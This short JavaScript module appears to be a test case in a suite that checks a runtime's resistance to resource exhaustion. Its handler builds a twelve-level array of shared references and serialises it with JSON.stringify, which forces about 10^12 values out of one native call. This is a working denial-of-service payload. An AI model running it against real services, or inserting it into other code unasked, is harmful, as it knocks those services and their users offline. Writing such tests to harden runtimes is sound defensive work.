// Writes JSON in which every level holds the one below ten times: 10^12 values, one call of native code.
import { attack } from './lib/attack.js';

export default attack(() => {
  let value = [];
  for (let i = 0; i < 12; i++) value = Array(10).fill(value);
  return new Response(JSON.stringify(value));
});
